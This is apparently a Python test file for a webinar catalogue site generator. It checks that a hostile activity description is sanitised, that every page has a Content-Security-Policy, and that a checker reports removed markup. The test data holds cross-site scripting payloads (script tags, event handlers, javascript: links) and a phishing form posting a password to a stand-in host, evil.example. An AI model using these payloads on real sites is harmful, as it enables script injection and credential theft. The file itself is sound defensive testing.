"""A hostile activity file: the built site keeps none of its payloads, every page carries a CSP,
and the checker tells the convener which markup the site removes."""
from __future__ import annotations

import re
from pathlib import Path

import pytest

from catalog.load import load_catalog
from catalog.site import csp
from tests.catalog.site_helpers import activity, build_in_process, write_project

HOSTILE_BODY = """\
Stewardship programmes depend on the laboratory, see [the guideline](https://example.org/g).

<script>alert('xss-script')</script>

<img src="x.png" onerror="alert('xss-onerror')" alt="chart">

[Click me](javascript:xss-jslink%28%29)

<a href="JaVaScRiPt:alert('xss-jslink2')">also</a>

<iframe src="https://evil.example/frame"></iframe>

<svg onload="alert('xss-svg')"><circle r="1"/></svg>

<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/e.swf">

<form action="https://evil.example/phish"><input name="password"></form>

<div style="background:url(javascript:alert('xss-style'))" onclick="alert('xss-onclick')">Boxed</div>

## Heading {onmouseover="alert('xss-attrlist')"}

Plain **bold** and a <b>kept</b> tag.
"""
#: Nowhere in the site (search index and feeds included).
PAYLOADS = ["xss-script", "xss-onerror", "xss-jslink", "xss-svg", "xss-style", "xss-onclick",
            "xss-attrlist", "evil.example", "onerror", "onload", "onclick", "onmouseover", "javascript:"]
#: Not in the activity page's article (the theme itself draws its icons with <svg>).
TAGS = ["<script", "<iframe", "<svg", "<object", "<embed", "<form", "<input", "style="]


@pytest.fixture(scope="module")
def built(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    write_project(root, {"hostile-webinar": activity(body=HOSTILE_BODY, title="Hostile <script>x</script>")})
    return build_in_process(root)


def test_no_payload_survives_anywhere_in_the_built_site(built):
    for path in built.rglob("*"):
        if path.suffix not in (".html", ".json", ".ics", ".xml") or not path.is_file():
            continue
        text = path.read_text(encoding="utf-8")
        if path.name == "activities.json":
            continue  # data for programs, not a page: its description field is the Markdown source
        for payload in PAYLOADS:
            assert payload.lower() not in text.lower(), f"{payload!r} survived in {path.relative_to(built)}"


def test_no_hostile_tag_in_the_activity_article(built):
    page = (built / "activities" / "hostile-webinar" / "index.html").read_text(encoding="utf-8")
    description = page.split('id="description"', 1)[1].split("</article>", 1)[0]
    assert "Boxed" in description
    for tag in TAGS:
        assert tag not in description.lower(), tag


def test_what_conveners_need_is_kept(built):
    page = (built / "activities" / "hostile-webinar" / "index.html").read_text(encoding="utf-8")
    assert '<a href="https://example.org/g">the guideline</a>' in page
    assert '<img src="x.png" alt="chart">' in page
    assert "<strong>bold</strong>" in page and "<b>kept</b>" in page
    assert "Boxed" in page and "Hostile &lt;script&gt;x&lt;/script&gt;" in page


def test_every_page_carries_a_csp_whose_scripts_are_only_the_themes(built):
    pages = list(built.rglob("*.html"))
    assert len(pages) > 3
    for path in pages:
        text = path.read_text(encoding="utf-8")
        m = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
        assert m, f"no CSP in {path}"
        policy = m.group(1)
        assert "object-src 'none'" in policy and "base-uri 'self'" in policy
        assert "'unsafe-inline'" not in policy.split("script-src", 1)[1]
        assert policy == csp.policy(text)


def test_an_inline_script_inside_the_article_is_never_allowed():
    page = ("<html><head></head><body><script>theme()</script>"
            "<article class='md-content__inner'><script>payload()</script></article></body></html>")
    policy = csp.policy(page)
    assert csp._hash("theme()") in policy and csp._hash("payload()") not in policy


def test_the_checker_warns_which_markup_the_site_removes(tmp_path):
    (tmp_path / "hostile-webinar.md").write_text(activity(body=HOSTILE_BODY), encoding="utf-8")
    [warning] = [p for p in load_catalog([str(tmp_path)]).warnings if p.rule == "markup_is_safe"]
    assert warning.message.startswith("the description has markup the catalogue removes for safety: ")
    for removed in ("<script>", "<iframe>", "<svg>", "<object>", "<embed>", "<form>", "<input>",
                    "the onerror attribute on <img>", "the style attribute on <div>",
                    "the onclick attribute on <div>", "the onmouseover attribute on <h2>", "javascript: links"):
        assert removed in warning.message, removed
    assert "<b>" not in warning.message and "<a>" not in warning.message


def test_plain_markdown_gets_no_warning(tmp_path):
    (tmp_path / "plain-webinar.md").write_text(activity(), encoding="utf-8")
    assert [p for p in load_catalog([str(tmp_path)]).warnings if p.rule == "markup_is_safe"] == []
